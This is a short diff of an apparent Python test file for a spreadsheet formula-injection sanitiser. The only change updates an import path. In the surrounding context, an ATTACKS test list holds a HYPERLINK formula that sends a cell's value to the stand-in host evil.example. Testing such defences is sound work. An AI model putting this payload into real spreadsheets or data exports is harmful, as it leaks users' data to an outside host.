@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tenants.spreadsheet_cells import FORMULA_STARTS, neutralise, restore
+from tenants.ingest.spreadsheet_cells import FORMULA_STARTS, neutralise, restore
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
